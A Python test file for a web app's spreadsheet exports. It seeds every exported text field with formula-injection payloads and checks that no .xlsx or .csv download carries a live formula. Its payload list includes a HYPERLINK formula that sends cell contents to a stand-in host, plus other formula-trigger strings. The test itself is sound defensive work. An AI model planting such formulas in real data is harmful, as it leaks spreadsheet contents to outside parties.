"""No download carries a live formula (OWASP CSV injection): every export route of the app, in .xlsx and .csv,
run over a world where every text field of every exported object starts with = + - @ tab or CR. No xlsx cell
is a formula (nor is there any <f> in the sheets' XML) and no csv cell starts with one of those characters."""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app.challenges.delivery.payments import record_payment
from app.challenges.notice.models import ChallengeNotice
from app.challenges.notice.workdays import notice_period
from app.challenges.review.models import ReviewAssignment, ReviewCriterion, ReviewScore
from app.core.challenge_enums import ReviewStage
from app.core.clock import local_today
from app.core.models import utcnow
from app.core.policy_enums import BenefitType, PolicyScope, PolicyStatus
from app.policies.models import Policy, PolicyItem
from tests.challenges.delivery.support import awarded, experts, issuer_user, item_in_delivery, sign
from tests.conftest import as_user
from tests.web.event_world import build_events, route_urls
from tests.web.world import K, build_world, get_rules

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+2", "-1+2", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
# Tables no download reads (machinery, logs, vectors) and columns that hold machine values or codes checked on
# the way in (hashes, tokens, region and industry codes, the credit code): no user ever types a formula there.
NOT_EXPORTED = re.compile(r"^(job_locks|mail_outbox|search_.*|posting_vectors|notification.*|status_changes|match.*)$")
MACHINE = {"password_hash", "token_hash", "form_token", "ticket_token", "short_code", "stored_name", "content_type",
           "open_key", "region", "industry", "credit_code", "audience", "milestone"}  # fmt: skip
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Every export of the app: endpoint → its URLs ({fmt} is xlsx or csv) in the world below.
EXPORTS = {
    "postings.index": lambda ids: [f"/postings/{kind.value}?format={{fmt}}" for kind in K],
    "lists.download": lambda ids: [f"/lists/{n}/download?format={{fmt}}" for n in ids["lists"]],
    "admin.export": lambda ids: ["/admin/export?kind=&status=&format={fmt}"],  # drafts too
    "organizations.admin_list": lambda ids: ["/orgs/admin/?format={fmt}"],
    "docking.funnel": lambda ids: ["/docking/funnel?start=2020-01-01&end=2030-12-31&format={fmt}"],
    "checkin.export": lambda ids: [
        f"/events/{ids['expo']}/exports/{what}.{{fmt}}" for what in ("attendees", "checkin")
    ],
    "booths.export": lambda ids: [f"/events/{ids['expo']}/exports/booths.{{fmt}}"],
    "meetings.export": lambda ids: [f"/events/{ids['docking']}/meetings/export?format={{fmt}}"],
    "judging.export": lambda ids: [f"/events/{ids['roadshow']}/judging/export?format={{fmt}}"],
    "event_statistics.statistics": lambda ids: [f"/events/{ids['expo']}/statistics?format={{fmt}}"],
    "policy_figures.overview": lambda ids: ["/policies/figures?format={fmt}"],
    "policy_figures.item": lambda ids: [f"/policies/figures/{ids['policy_item']}?format={{fmt}}"],
    "policy_staff.export": lambda ids: ["/policies/manage/export?format={fmt}"],
    "challenge_review.export_applications": lambda ids: [
        f"/challenges/manage/items/{ids['challenge_item']}/export/applications?format={{fmt}}"
    ],
    "challenge_review.export_scores": lambda ids: [
        f"/challenges/manage/items/{ids['challenge_item']}/export/scores?format={{fmt}}"
    ],
    "challenge_notice.export": lambda ids: [
        f"/challenges/manage/batches/{ids['challenge_batch']}/notices?format={{fmt}}"
    ],
    "challenge_delivery.ledger": lambda ids: [f"/challenges/manage/items/{ids['challenge_item']}/delivery/ledger.xlsx"],
}
# stage labels and counts only; days, statuses, organisation types and region names with counts
NO_USER_TEXT = {"docking.funnel", "event_statistics.statistics"}


def make_hostile(db) -> None:
    """Every text column (and every text in a list column) of every exported table gets a formula in front."""
    for table in db.metadata.sorted_tables:
        if NOT_EXPORTED.match(table.name):
            continue
        text = [c for c in table.columns if _is_text(c) and c.name not in MACHINE]
        for n, row in enumerate(db.session.execute(sa.select(table)).mappings().all() if text else []):
            # the payloads turn with each row, so a column of a table with six rows meets all six
            payloads = itertools.islice(itertools.cycle(PAYLOADS), n, None)
            values = {c.name: _hostile(row[c.name], next(payloads), c.type) for c in text if row[c.name]}
            where = [pk == row[pk.name] for pk in table.primary_key.columns]
            if values:
                db.session.execute(sa.update(table).where(*where).values(values))


def _is_text(column) -> bool:
    return isinstance(column.type, (sa.String, sa.Text, sa.JSON)) and not isinstance(column.type, sa.Enum)


def _hostile(value, payload: str, column_type):
    if isinstance(value, list):
        return [payload + v if isinstance(v, str) else v for v in value]
    if not isinstance(value, str):
        return value
    length = getattr(column_type, "length", None)
    if length and len(payload) + len(value) > length:
        payload = payload[0]  # keep a short unique value unique: one formula character in front
    return (payload + value)[:length]


@pytest.fixture
def hostile(db, monkeypatch) -> dict:
    world = build_world(monkeypatch)
    ids = build_events(world)
    ids["lists"] = [world.draft_list.id, world.published_list.id]
    ids["policy_item"] = _published_policy_item(db)
    ids["challenge_batch"], ids["challenge_item"] = _challenge_in_delivery(db)
    db.session.commit()
    make_hostile(db)
    db.session.commit()
    return {"world": world, "ids": ids}


def _challenge_in_delivery(db) -> tuple[int, int]:
    """A 揭榜挂帅 item (the first of its tables, so the URL walk's default id 1 finds it) with an awarded team,
    its signed 任务书 and a payment: every challenge export has rows of user text."""
    issuer = issuer_user()
    item = item_in_delivery(issuer)
    winner = awarded(item)
    (expert,) = experts(1)
    criterion = ReviewCriterion(
        item_id=item.id, stage=ReviewStage.REVIEW, position=1, name="技术方案", weight=100, max_score=10
    )
    db.session.add(criterion)
    db.session.flush()
    db.session.add(
        ReviewAssignment(
            application_id=winner.id, expert_id=expert.id, stage=ReviewStage.REVIEW, declared_at=utcnow(),
            submitted_at=utcnow(), comment="方案可行", scores=[ReviewScore(criterion_id=criterion.id, half_points=16)],
        )
    )  # fmt: skip
    starts, ends = notice_period(local_today(), 5)
    db.session.add(ChallengeNotice(item_id=item.id, starts_on=starts, ends_on=ends, working_days=5,
                                   application_ids=[winner.id], text="公示说明"))  # fmt: skip
    contract = sign(item, winner, issuer, amount=100)
    record_payment(contract, issuer, tranche_id=item.tranches[0].id, amount="30", paid_on=contract.signed_on)
    return item.batch_id, item.id


def _published_policy_item(db) -> int:
    """A policy whose figures the platform admin downloads (its title, 文号 and item title are made hostile)."""
    policy = Policy(
        title="包头市研发投入后补助办法",
        issuer="包头市工业和信息化局",
        doc_number="包工信发〔2026〕8号",
        scope=PolicyScope.LEAGUE_CITY,
        region="150200",
        status=PolicyStatus.PUBLISHED,
    )
    policy.items = [PolicyItem(title="研发费用后补助", benefit_type=BenefitType.SUBSIDY)]
    db.session.add(policy)
    db.session.flush()
    return policy.items[0].id


def xlsx_problems(data: bytes) -> tuple[list[str], list]:
    """(formulas found, every cell value): openpyxl's data types and the raw sheet XML both checked."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >]", archive.read(name)):
                problems.append(f"{name} has an <f> element")
    values = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for cell in (c for row in ws.iter_rows() for c in row):
            values.append(cell.value)
            if cell.data_type == "f":
                problems.append(f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}")
    return problems, values


def csv_problems(data: bytes) -> tuple[list[str], list]:
    values = [v for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for v in row]
    return [f"csv cell {v!r} starts like a formula" for v in values if v.startswith(TRIGGERS)], values


def test_no_export_holds_a_formula_whatever_the_users_typed(client, hostile):
    as_user(client, hostile["world"].platform_admin)
    problems = []
    for endpoint, urls in EXPORTS.items():
        for url in (u.format(fmt=fmt) for u in urls(hostile["ids"]) for fmt in ("xlsx", "csv")):
            resp = client.get(url)
            assert resp.status_code == 200 and resp.mimetype in (XLSX, "text/csv"), (url, resp.status_code)
            found, values = (xlsx_problems if resp.mimetype == XLSX else csv_problems)(resp.data)
            problems += [f"{url}: {p}" for p in found]
            quoted = [v for v in values if isinstance(v, str) and v[:1] == "'" and v[1:].startswith(TRIGGERS)]
            if endpoint not in NO_USER_TEXT and not quoted:
                problems.append(f"{url}: no hostile text reached this download")
    assert not problems, "\n".join(problems)


def _export_rules() -> set[str]:
    """Routes that look like downloads in the URL map: a format in the path, or an export endpoint."""
    return {
        r.endpoint
        for r in get_rules()
        if r.arguments & {"fmt", "format"} or re.search(r"\.(xlsx|csv)", r.rule) or r.endpoint.endswith("export")
    }


def test_the_export_list_covers_every_route_that_answers_with_a_spreadsheet(client, hostile):
    """Found two ways: by the URL map, and by asking every GET route for ?format=csv as a platform admin."""
    assert _export_rules() <= set(EXPORTS)
    as_user(client, hostile["world"].platform_admin)
    answered = set()
    for rule in get_rules():
        for url in route_urls(rule, hostile["world"], hostile["ids"]):
            resp = client.get(url + ("&" if "?" in url else "?") + "format=csv&kind=&status=")
            disposition = resp.headers.get("Content-Disposition", "")
            if re.search(r"\.(xlsx|csv)", disposition):
                answered.add(rule.endpoint)
    assert answered == set(EXPORTS)
